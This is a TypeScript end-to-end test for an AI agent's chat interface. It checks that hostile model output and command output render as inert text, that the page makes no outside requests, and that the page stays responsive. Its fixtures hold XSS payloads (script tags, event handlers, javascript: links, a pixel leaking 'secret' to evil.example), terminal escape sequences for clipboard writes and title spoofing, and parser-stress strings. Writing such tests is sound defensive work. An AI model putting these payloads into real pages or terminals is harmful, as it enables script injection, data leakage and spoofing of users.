// A model and a command that write against the page: nothing of it runs, nothing is fetched, and the page stays quick.
// Proves: N-12
import { afterAll, expect, it } from 'vitest';
import { closeBrowser, openStage } from '#tests/e2e/stage.ts';
import { lastToolResults } from '#tests/support/model-server.ts';

afterAll(closeBrowser);

const MARKUP = [
  '<script>globalThis.ran = 1</script>',
  '<img src="http://evil.example/a.png" onerror="globalThis.ran = 2">',
  '![tracking](http://evil.example/pixel.png?q=secret)',
  '[click](javascript:globalThis.ran=3) [data](data:text/html,<script>globalThis.ran=4</script>) [file](file:///etc/passwd) [mail](mailto:eve@evil.example) [call](tel:+15550100)',
  '<iframe src="http://evil.example/"></iframe><style>body { display: none }</style><base href="http://evil.example/">',
  '| <b onclick="globalThis.ran=5">x</b> |\n|---|\n| <svg onload="globalThis.ran=6"> |',
  '```html\n<script>globalThis.ran = 7</script>\n```',
].join('\n\n');
const HEAVY = [
  '>'.repeat(20_000),
  '['.repeat(50_000),
  '*a'.repeat(30_000),
  '`'.repeat(50_001),
  `${'- '.repeat(5_000)}x`,
  '|a'.repeat(20_000),
  '<!--'.repeat(20_000),
  'www.a'.repeat(20_000),
].join('\n\n');
/** A link and a clipboard write of a terminal, a title, a mouse mode, and characters that turn text around. */
const SEQUENCES = String.raw`printf '\033]8;;javascript:alert(1)\033\\link\033]8;;\033\\ \033]52;c;ZXZpbA==\007 \033]0;owned\007 \033[?1000h \342\200\256txt.exe\n'`;

it('hostile answers and commands are shown as text', async () => {
  const stage = await openStage({
    model: (request) => {
      const said = JSON.stringify(request.body.messages.at(-1));
      if (lastToolResults(request).length > 0) return { steps: [{ say: 'The command has written.' }] };
      if (said.includes('markup')) return { steps: [{ say: `${MARKUP}\n\nEnd of markup.`, chunks: 40, everyMs: 2 }] };
      if (said.includes('heavy')) return { steps: [{ say: `${HEAVY}\n\nEnd of heavy.`, chunks: 60, everyMs: 2 }] };
      return { steps: [{ call: 'exec', input: { command: SEQUENCES, pty: true } }] };
    },
  });
  const app = await stage.openTab();
  const foreign: string[] = [];
  app.page.on('request', (request) => {
    if (!/^(http:\/\/127\.0\.0\.1|data:|blob:)/.test(request.url())) foreign.push(request.url());
  });
  app.page.on('dialog', (dialog) => void dialog.dismiss().then(() => foreign.push('a dialog')));
  await app.signIn(stage.host().signInUrl);
  await app.firstRun(/Anthropic key found/, stage.workspace);
  await app.beginTask('Write markup.');
  await app.conversation().getByText('End of markup.').waitFor();
  expect(await app.conversation().locator('script, iframe, style, base, svg[onload], img[src^="http"]').count()).toBe(
    0,
  );
  const links = await app
    .conversation()
    .locator('a')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  for (const href of links) expect(href).toMatch(/^https?:/);

  const began = performance.now();
  await app.say('Write something heavy.');
  await app.conversation().getByText('End of heavy.').last().waitFor();
  expect(performance.now() - began, 'ms for the heavy text').toBeLessThan(4_000);
  const answersIn = await app.page.evaluate(() => {
    const from = performance.now();
    return new Promise<number>((resolve) => setTimeout(() => resolve(performance.now() - from), 0));
  });
  expect(answersIn, 'ms until the page is free').toBeLessThan(1_000);

  await app.say('Run a command.');
  await app.conversation().getByText('The command has written.').waitFor();
  expect(await app.conversation().locator('a[href^="javascript"]').count()).toBe(0);
  expect(await app.page.title()).not.toContain('owned');
  expect(await app.page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();
  expect(foreign).toEqual([]);
});
